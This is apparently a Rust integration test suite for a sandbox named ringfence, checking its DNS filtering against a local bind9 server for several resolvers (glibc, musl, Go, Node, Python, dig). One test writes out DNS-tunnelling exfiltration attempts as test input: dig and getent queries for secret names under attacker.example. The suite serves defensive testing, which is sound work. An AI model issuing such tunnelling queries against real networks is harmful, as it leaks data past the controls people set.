//! Real programs in a real sandbox, and a real name server (bind9) on the host's loopback.

use std::fmt::Write as _;
use std::net::UdpSocket;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::network::{A, question};
use crate::support::until;
use crate::world::{World, good, oracle, text};

const ZONE: &str = "$TTL 5\n@ SOA ns hostmaster 1 2 3 4 5\n@ NS ns\nns A 127.0.0.53\n\
    site A 203.0.113.9\nsite AAAA 2001:db8::9\nsite HTTPS 1 . alpn=h2 ipv4hint=203.0.113.66\n\
    alias CNAME site\n*.attacker A 203.0.113.66\n*.wild A 203.0.113.9\n";

/// bind9 on the host, and a log of what it is asked.
struct Named {
    process: Child,
    log: PathBuf,
}

impl Named {
    /// Starts it on an address of the host's loopback, as the host's name server; says so if it can't.
    fn start(world: &World, address: &str) -> Option<Self> {
        let program = oracle("named")?;
        let folder = world.directory().join(format!("named-{address}"));
        std::fs::create_dir(&folder).unwrap();
        let at = |name: &str| folder.join(name);
        let mut zone = ZONE.to_owned();
        // More than fit into the datagram that servers are asked for; more than a hundred bind9 does not take.
        for number in 1..=95 {
            writeln!(zone, "many A 203.0.113.{number}").unwrap();
        }
        std::fs::write(at("zone"), zone).unwrap();
        let d = folder.display();
        std::fs::write(
            at("named.conf"),
            format!(
                "options {{ directory \"{d}\"; listen-on {{ {address}; }}; listen-on-v6 {{ none; }}; recursion no; \
                 dnssec-validation no; empty-zones-enable no; pid-file none; session-keyfile none; querylog yes; }};\n\
                 controls {{ }};\nzone \"example\" {{ type primary; file \"zone\"; }};\n"
            ),
        )
        .unwrap();
        // named listens on the addresses that an interface has, not on all that loopback would take.
        let mut ip = Command::new(oracle("ip")?);
        ip.args(["address", "add", &format!("{address}/8"), "dev", "lo"]);
        assert!(world.spawn(ip).wait().unwrap().success());
        let log = at("log");
        let mut command = Command::new(program);
        command.arg("-g").arg("-c").arg(at("named.conf")).stdin(Stdio::null()).stdout(Stdio::null());
        command.stderr(std::fs::File::create(&log).unwrap());
        let named = Self { process: world.spawn(command), log };
        std::fs::write(world.directory().join("resolv.conf"), format!("nameserver {address}\n")).unwrap();
        std::fs::write(world.directory().join("nsswitch.conf"), "passwd: files\nhosts: dns files\n").unwrap();
        until("named answers", || {
            let answered = world.outer.host.run(|| {
                let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
                socket.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
                socket.connect((address, 53)).unwrap();
                socket.send(&question(1, "site.example", A, None)).is_ok() && socket.recv(&mut [0; 512]).is_ok()
            });
            answered.unwrap()
        });
        Some(named)
    }

    /// Whether it was asked for something like that.
    fn was_asked(&self, part: &str) -> bool {
        std::fs::read_to_string(&self.log).unwrap().to_lowercase().contains(part)
    }
}

impl Drop for Named {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// Runs a shell's line inside, and gives what it prints.
fn inside(world: &World, flags: &str, line: &str) -> String {
    let arguments = std::iter::once("run").chain(flags.split_whitespace()).chain(["--", "sh", "-c", line]);
    let output = world.output(world.ringfence(arguments));
    assert!(output.status.success(), "{line}: {}{}", text(&output.stdout), text(&output.stderr));
    text(&output.stdout)
}

/// Compiles the C library's test program with a compiler; `None`, loudly, where that is not there.
fn compiled(world: &World, compiler: &str) -> Option<PathBuf> {
    let compiler = oracle(compiler)?;
    let (source, program) = (world.directory().join("lookup.c"), world.directory().join("lookup"));
    let code = "#include <netdb.h>\n#include <stdio.h>\n#include <string.h>\n#include <arpa/inet.h>\n\
        int main(int c, char **v) { struct addrinfo h, *r; char t[64]; memset(&h, 0, sizeof h); h.ai_socktype = SOCK_STREAM;\n\
        int e = getaddrinfo(v[1], \"80\", &h, &r); if (e) { puts(gai_strerror(e)); return 0; }\n\
        for (; r; r = r->ai_next) { void *a = r->ai_family == AF_INET ? (void *)&((struct sockaddr_in *)r->ai_addr)->sin_addr\n\
        : (void *)&((struct sockaddr_in6 *)r->ai_addr)->sin6_addr; puts(inet_ntop(r->ai_family, a, t, sizeof t)); } return 0; }\n";
    std::fs::write(&source, code).unwrap();
    let status = Command::new(compiler).args(["-static", "-o"]).args([&program, &source]).status().unwrap();
    assert!(status.success());
    Some(program)
}

/// The Go program, without the C library.
fn go(world: &World) -> Option<PathBuf> {
    let go = oracle("go")?;
    let folder = world.directory().join("go");
    std::fs::create_dir(&folder).unwrap();
    let code = "package main\nimport (\"context\"; \"fmt\"; \"net\"; \"os\")\nfunc main() {\n\
        r := &net.Resolver{PreferGo: true}\na, e := r.LookupHost(context.Background(), os.Args[1])\nfmt.Println(a, e)\n}\n";
    std::fs::write(folder.join("main.go"), code).unwrap();
    std::fs::write(folder.join("go.mod"), "module lookup\n").unwrap();
    let mut build = Command::new(go);
    build.args(["build", "-o", "lookup", "."]).current_dir(&folder).env("CGO_ENABLED", "0").env("GOFLAGS", "-mod=mod");
    build.env("GOCACHE", folder.join("cache")).env("GOPATH", folder.join("path")).env("GOPROXY", "off");
    assert!(build.status().unwrap().success());
    Some(folder.join("lookup"))
}

#[test]
fn every_kind_of_program_finds_what_is_allowed_and_is_told_at_once_what_is_not() {
    let Some(world) = World::new() else { return };
    let Some(named) = Named::start(&world, "127.0.0.53") else { return };
    let mut programs: Vec<(&str, String)> = vec![("glibc", "getent ahosts NAME".to_owned())];
    if let Some(program) = compiled(&world, "musl-gcc") {
        programs.push(("musl", format!("{} NAME", program.display())));
    }
    if let Some(program) = go(&world) {
        programs.push(("go", format!("{} NAME", program.display())));
    }
    if oracle("node").is_some() {
        programs.push((
            "node",
            "node -e 'require(\"dns\").lookup(\"NAME\",{all:true},(e,a)=>console.log(e&&e.code,a))'".to_owned(),
        ));
        programs.push((
            "c-ares",
            "node -e 'require(\"dns\").resolve4(\"NAME\",(e,a)=>console.log(e&&e.code,a))'".to_owned(),
        ));
    }
    if let Some(python) = crate::support::python() {
        let code = "import socket\\ntry: print(socket.getaddrinfo(\"NAME\",80))\\nexcept OSError as e: print(e)";
        programs.push(("python", format!("{python} -c \"$(printf '{code}')\"")));
    }
    if oracle("dig").is_some() {
        for server in ["127.0.0.1", "127.0.0.53", "127.0.0.11", "::1"] {
            programs.push(("dig", format!("dig @{server} +short NAME")));
            programs.push(("dig", format!("dig @{server} +tcp +short NAME")));
        }
    }
    for (program, line) in &programs {
        for name in ["site.example", "alias.example", "a.wild.example"] {
            let said = inside(
                &world,
                "--allow site.example,alias.example --allow *.wild.example",
                &line.replace("NAME", name),
            );
            assert!(said.contains("203.0.113.9"), "{program} {name}: {said}");
        }
        let said = inside(
            &world,
            "--allow site.example",
            &format!("date +%s%N; {}; date +%s%N", line.replace("NAME", "secret.attacker.example || true")),
        );
        let stamps: Vec<i64> =
            said.lines().filter(|line| line.len() == 19).filter_map(|line| line.parse().ok()).collect();
        assert!(stamps[1] - stamps[0] < 1_500_000_000, "{program} waits: {said}");
        assert!(!said.contains("203.0.113."), "{program}: {said}");
    }
    assert!(named.was_asked("site.example"));
    assert!(!named.was_asked("secret"));
}

#[test]
fn a_question_is_no_tunnel() {
    let Some(world) = World::new() else { return };
    let (Some(named), Some(_)) = (Named::start(&world, "127.0.0.53"), oracle("dig")) else { return };
    let wire = world.outer.watch();
    let line = "for server in 127.0.0.1 127.0.0.53 127.0.0.11 ::1 203.0.113.9 198.51.100.1 10.200.0.1; do \
        for kind in A AAAA TXT NULL MX CNAME PTR ANY; do \
        dig @$server +tries=1 +time=1 +short secret-$kind.attacker.example $kind; done; done; \
        dig +tcp +short secret-tcp.attacker.example; dig +short -x 203.0.113.66; getent hosts secret.attacker.example; \
        dig +short site.example.secret.attacker.example; dig +short site.example";
    let said = inside(&world, "--allow site.example --direct site.example:80", line);
    assert!(!said.contains("203.0.113.66"), "{said}");
    assert!(said.contains("203.0.113.9"), "{said}");
    assert!(named.was_asked("site.example") && !named.was_asked("secret"), "the attacker's server was asked");
    world
        .outer
        .host
        .run(|| UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"marker", "203.0.113.9:5353").unwrap())
        .unwrap();
    wire.until_seen("marker");
    assert!(wire.frames().iter().all(|frame| !frame.holds(b"secret")), "a question left the host");
}

#[test]
fn answers_of_many_addresses_are_whole() {
    let Some(world) = World::new() else { return };
    let (Some(_named), Some(_)) = (Named::start(&world, "127.0.0.11"), oracle("dig")) else { return };
    let said = inside(
        &world,
        "--allow many.example",
        "dig +short many.example | wc -l; dig +notcp +ignore +short +bufsize=512 many.example | wc -l",
    );
    let counts: Vec<usize> = said.split_whitespace().map(|word| word.parse().unwrap()).collect();
    assert_eq!(counts[0], 95);
    assert!(counts[1] > 20 && counts[1] < 40, "{said}");
}

#[test]
fn service_records_hand_out_no_address() {
    let Some(world) = World::new() else { return };
    let (Some(_named), Some(_)) = (Named::start(&world, "127.0.0.53"), oracle("dig")) else { return };
    let said = inside(&world, "--allow site.example", "dig +short site.example HTTPS");
    assert_eq!(said, "1 . alpn=\"h2\"\n");
}

#[test]
fn the_proxy_resolves_with_the_same_servers() {
    let Some(world) = World::new() else { return };
    let (Some(_named), Some(_)) = (Named::start(&world, "127.0.0.53"), oracle("curl")) else { return };
    std::fs::write(world.directory().join("file"), "served\n").unwrap();
    world.web(world.directory());
    let said = inside(&world, "--allow alias.example", "curl -sS http://alias.example:8080/file");
    assert_eq!(said, "served\n");
}

#[test]
fn open_answers_for_every_name_and_off_for_none() {
    let Some(world) = World::new() else { return };
    let Some(_named) = Named::start(&world, "127.0.0.53") else { return };
    assert!(inside(&world, "--dns open", "getent ahostsv4 x.wild.example").contains("203.0.113.9"));
    let start = Instant::now();
    let said = inside(
        &world,
        "--dns off --allow site.example",
        "getent ahosts site.example || echo none; getent hosts localhost; cat /etc/resolv.conf",
    );
    assert!(said.starts_with("none\n") && said.contains("localhost"), "{said}");
    assert!(said.contains("nameserver 127.0.0.1\n"), "{said}");
    if let Some(program) = compiled(&world, "musl-gcc") {
        let said = inside(&world, "--dns off", &format!("{} site.example", program.display()));
        assert!(!said.contains("203.0.113"), "{said}");
    }
    // A C library that is not told so at once waits twice five seconds for each of the three.
    assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
}

/// Runs `ringfence run` in a mount namespace where `/etc` is what a script has made of it, and gives what it prints.
fn with_etc(world: &World, script: &str, flags: &str, line: &str) -> String {
    let folder = world.directory().join("etc");
    let made = format!(
        "set -e; mkdir -p {etc}; mount -t tmpfs none {etc}; cp /etc/passwd /etc/group {etc}; \
         printf 'passwd: files\\nhosts: dns files\\n' > {etc}/nsswitch.conf; mount --move {etc} /etc; {script}; \
         {ringfence} run {flags} --allow site.example -- sh -c '{line}'; echo; echo after:; cat /etc/resolv.conf || echo absent",
        etc = folder.display(),
        ringfence = crate::world::RINGFENCE,
    );
    let mut command = world.program("unshare");
    command.args(["--mount", "--propagation", "private", "sh", "-c", &made]);
    let output = world.output(command);
    assert!(output.status.success(), "{script}: {}{}", text(&output.stdout), text(&output.stderr));
    text(&output.stdout)
}

#[test]
fn whatever_resolv_conf_is_the_program_sees_its_own_and_the_host_keeps_its_own() {
    let Some(world) = World::new() else { return };
    let Some(_named) = Named::start(&world, "127.0.0.53") else { return };
    let conf = "printf \"nameserver 127.0.0.53\\nsearch corp.example\\n\"";
    let run = "mkdir -p /run/systemd/resolve";
    let stub = "/run/systemd/resolve/stub-resolv.conf";
    for (what, script) in [
        ("a file", format!("{conf} > /etc/resolv.conf")),
        ("a symbolic link", format!("{run}; {conf} > {stub}; ln -s ..{stub} /etc/resolv.conf")),
        ("a link to a link", format!("{run}; {conf} > {stub}; ln -s {stub} /etc/link; ln -s link /etc/resolv.conf")),
        ("read-only", format!("{conf} > /etc/resolv.conf; mount -o remount,ro /etc")),
        ("a mount", format!("{conf} > /run/conf; touch /etc/resolv.conf; mount --bind /run/conf /etc/resolv.conf")),
        ("readable by root alone", format!("{conf} > /etc/resolv.conf; chmod 600 /etc/resolv.conf")),
    ] {
        for user in ["", "--user 65534:65534"] {
            let line = "cat /etc/resolv.conf; grep hosts /etc/nsswitch.conf; getent ahostsv4 site.example | head -n 1; \
                echo junk 2>/dev/null >> /etc/resolv.conf; true";
            let said = with_etc(&world, &script, user, line);
            let (before, after) = said.split_once("after:\n").unwrap();
            assert!(before.contains("nameserver 127.0.0.1\nsearch corp.example\n"), "{what}: {said}");
            assert!(before.contains("hosts: files dns\n") && before.contains("203.0.113.9"), "{what}: {said}");
            assert_eq!(after, "nameserver 127.0.0.53\nsearch corp.example\n", "{what}");
        }
    }
    // Nothing to cover: libc asks 127.0.0.1 by itself, and so does the host's side.
    for (what, script) in [
        ("absent", "true"),
        ("dangling", "ln -s /nowhere/resolv.conf /etc/resolv.conf"),
        ("a folder", "mkdir /etc/resolv.conf"),
    ] {
        let said = with_etc(&world, script, "", "dig +noall +comments other.example | grep -o NXDOMAIN");
        assert!(said.contains("NXDOMAIN"), "{what}: {said}");
    }
}

#[test]
fn services_that_answer_for_whoever_connects_are_out_of_reach() {
    let Some(world) = World::new() else { return };
    let script = "printf \"nameserver 127.0.0.53\\n\" > /etc/resolv.conf; mkdir -p /run/nscd /run/systemd/resolve /var/run/nscd; \
        touch /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve";
    let said =
        with_etc(&world, script, "", "ls -A /run/nscd /run/systemd/resolve /var/run/nscd; ls /run/systemd; echo end");
    assert!(!said.contains("socket") && !said.contains("io.systemd"), "{said}");
    assert!(said.contains("end"), "{said}");
}

#[test]
fn a_sandbox_answers_for_names_at_every_start() {
    let Some(world) = World::new() else { return };
    let Some(_named) = Named::start(&world, "127.0.0.53") else { return };
    let before = world.state();
    for _ in 0..5 {
        let said = good(world.run("run --allow site.example -- getent ahostsv6 site.example"));
        assert!(said.contains("2001:db8::9"), "{said}");
    }
    world.nothing_left(&before, "by the resolver");
}
